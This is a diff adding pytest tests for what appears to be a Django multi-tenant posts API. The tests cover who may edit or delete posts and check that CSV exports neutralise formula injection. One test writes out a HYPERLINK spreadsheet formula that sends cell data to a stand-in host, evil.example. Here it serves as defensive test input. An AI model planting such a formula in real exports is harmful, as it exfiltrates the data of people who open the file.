@@ -123,3 +123,121 @@ def test_admins_remove_members_but_never_the_last_admin(basic_company):
     own = next(m for m in client.get("/api/members/").json()["results"] if m["email"] == admin.email)
     refused = client.delete(f"/api/members/{own['id']}/")
     assert refused.status_code == 409 and refused.json()["code"] == "last_admin"
+
+
+@pytest.fixture
+def someone_elses_post(basic_company):
+    """A post the admin wrote, and a member of the same company who did not."""
+    company, admin = basic_company
+    post = _create(company_client(company, admin), "the admin's words").json()
+    return company, admin, MembershipFactory(company=company, role="member").user, post
+
+
+@pytest.mark.parametrize(
+    "method, body",
+    [("put", {"title": "defaced", "body": "x"}), ("patch", {"title": "defaced"}), ("delete", None)],
+)
+def test_member_cannot_edit_someone_elses_post(someone_elses_post, method, body):
+    company, _, member, post = someone_elses_post
+    client = company_client(company, member)
+    kwargs = {"content_type": "application/json"} if body else {}
+    response = getattr(client, method)(f"/api/posts/{post['id']}/", *([body] if body else []), **kwargs)
+    assert response.status_code == 403
+    assert response.json() == {
+        "code": "not_author",
+        "detail": "Only the post's author or a company admin can change it.",
+    }
+    assert client.get(f"/api/posts/{post['id']}/").json()["title"] == "the admin's words"
+
+
+def test_authors_edit_and_delete_their_own_posts_and_admins_anyone_s(someone_elses_post):
+    company, admin, member, admins_post = someone_elses_post
+    member_client, admin_client = company_client(company, member), company_client(company, admin)
+    own = _create(member_client, "mine").json()
+    assert (
+        member_client.patch(
+            f"/api/posts/{own['id']}/", {"title": "still mine"}, content_type="application/json"
+        ).status_code
+        == 200
+    )
+    # An admin may tidy any post, the member's included.
+    assert (
+        admin_client.patch(f"/api/posts/{own['id']}/", {"title": "moderated"}, content_type="application/json").json()[
+            "title"
+        ]
+        == "moderated"
+    )
+    assert member_client.delete(f"/api/posts/{own['id']}/").status_code == 204
+    assert admin_client.delete(f"/api/posts/{admins_post['id']}/").status_code == 204
+    assert admin_client.get("/api/posts/").json()["results"] == []
+
+
+def test_demoted_admin_can_no_longer_edit_others_posts(someone_elses_post):
+    from companies.models import Membership
+
+    company, admin, member, post = someone_elses_post
+    Membership.objects.filter(company=company, user=member).update(role="admin")
+    client = company_client(company, member)
+    assert (
+        client.patch(f"/api/posts/{post['id']}/", {"title": "as admin"}, content_type="application/json").status_code
+        == 200
+    )
+    Membership.objects.filter(company=company, user=member).update(role="member")
+    response = company_client(company, member).patch(
+        f"/api/posts/{post['id']}/", {"title": "no more"}, content_type="application/json"
+    )
+    assert response.status_code == 403 and response.json()["code"] == "not_author"
+
+
+@pytest.fixture
+def pro_company():
+    company = CompanyFactory()
+    give_subscription(company, status="active", lookup_key="pro_monthly")
+    return company, MembershipFactory(company=company, role="admin").user
+
+
+def _exported_rows(company, admin) -> list[list[str]]:
+    response = company_client(company, admin).get("/api/posts/export/")
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize(
+    "trigger", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"]
+)
+def test_csv_cells_that_start_a_formula_are_quoted(pro_company, trigger):
+    """Title and body starting like a formula come out as text: prefixed with an apostrophe."""
+    from django_tenants.utils import tenant_context
+
+    from posts.models import Post
+
+    company, admin = pro_company
+    payload = trigger + 'HYPERLINK("http://evil.example/?"&A1,"open")'
+    # Stored as is (the API trims leading whitespace; other writers may not).
+    with tenant_context(company):
+        Post.objects.create(title=payload, body=payload, author=admin)
+    header, row = _exported_rows(company, admin)
+    title, body = row[header.index("title")], row[header.index("body")]
+    assert title == body == "'" + payload
+
+
+def test_csv_formula_sent_through_the_api_is_exported_as_text(pro_company):
+    company, admin = pro_company
+    client = company_client(company, admin)
+    assert _create(client, "=1+2").status_code == 201
+    assert (
+        client.post(
+            "/api/posts/", {"title": "-2+3", "body": "@SUM(A1:A9)"}, content_type="application/json"
+        ).status_code
+        == 201
+    )
+    rows = _exported_rows(company, admin)
+    assert [(r[1], r[2]) for r in rows[1:]] == [("'=1+2", "b"), ("'-2+3", "'@SUM(A1:A9)")]
+
+
+def test_csv_cells_that_merely_contain_formula_characters_are_unchanged(pro_company):
+    company, admin = pro_company
+    _create(company_client(company, admin), "a = b + c - d @ e")
+    rows = _exported_rows(company, admin)
+    assert rows[1][1] == "a = b + c - d @ e"
+    assert rows[1][0].isdigit()  # ids and times are never prefixed
